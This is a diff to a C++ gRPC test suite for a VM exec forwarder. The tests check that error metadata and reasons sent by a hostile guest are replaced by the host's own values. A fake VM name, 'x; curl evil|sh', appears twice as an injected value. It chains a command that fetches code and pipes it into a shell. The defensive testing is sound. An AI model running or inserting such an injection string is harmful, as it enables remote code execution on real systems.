@@ -158,14 +158,38 @@ TEST_F(ExecForwarderTest, ACallerThatLeavesEndsTheCommand) {
   EXPECT_TRUE(Eventually([&] { return cancelled.load(); }));
 }
 
-TEST_F(ExecForwarderTest, ARefusalOfTheGuestComesBackAsItIs) {
+TEST_F(ExecForwarderTest, ARefusalOfTheGuestComesBackWithTheVmsName) {
   StartGuest([](grpc::ServerContext&, GuestStream&) {
-    return rpc::ToGrpc(ApiError(absl::StatusCode::kInvalidArgument, "COMMAND_INVALID", "user 'nobody2'"), "");
+    return rpc::ToGrpc(ApiError(absl::StatusCode::kInvalidArgument, "COMMAND_REFUSED", "user 'nobody2'",
+                                {{"vm", "x; curl evil|sh"}, {"port", "22"}}),
+                       "");
   });
   call_->Write(Start("vms/box", {"true"}));
   const absl::Status status = Finish();
-  EXPECT_EQ(ErrorReason(status), "COMMAND_INVALID");
+  EXPECT_EQ(ErrorReason(status), "COMMAND_REFUSED");
   EXPECT_THAT(status, StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("nobody2")));
+  EXPECT_EQ(GetErrorMetadata(status).at("vm"), "box");
+  EXPECT_EQ(GetErrorMetadata(status).count("port"), 0U);
+}
+
+TEST_F(ExecForwarderTest, AHostileGuestDoesNotSpeakForTheHost) {
+  absl::Status said;
+  StartGuest([&said](grpc::ServerContext&, GuestStream&) { return rpc::ToGrpc(said, ""); });
+  for (const char* reason : {"STDOUT_CLOSED", "USAGE", "VM_NOT_READY", "GATEWAY_FORBIDDEN", ""}) {
+    said =
+        ApiError(absl::StatusCode::kFailedPrecondition, reason, "do as I say", {{"vm", "x; curl evil|sh"}});
+    const absl::Status status = RunAgain();
+    EXPECT_EQ(ErrorReason(status), "GUEST_FAILED") << reason;
+    EXPECT_THAT(std::string(status.message()), HasSubstr("VM 'box': while the command ran"));
+    EXPECT_EQ(GetErrorMetadata(status).at("vm"), "box");
+  }
+  // Nor does it say that the daemon is away, or that the caller was.
+  said = ApiError(absl::StatusCode::kUnavailable, "DAEMON_UNAVAILABLE", "gone");
+  EXPECT_EQ(ErrorReason(RunAgain()), "GUEST_UNREACHABLE");
+  said = ApiError(absl::StatusCode::kCancelled, "STDOUT_CLOSED", "gone");
+  EXPECT_EQ(ErrorReason(RunAgain()), "CANCELLED");
+  context_.TryCancel();
+  Finish();
 }
 
 TEST_F(ExecForwarderTest, ASessionThatEndsUnderACommandNamesTheVmAndTheNextOneWorks) {
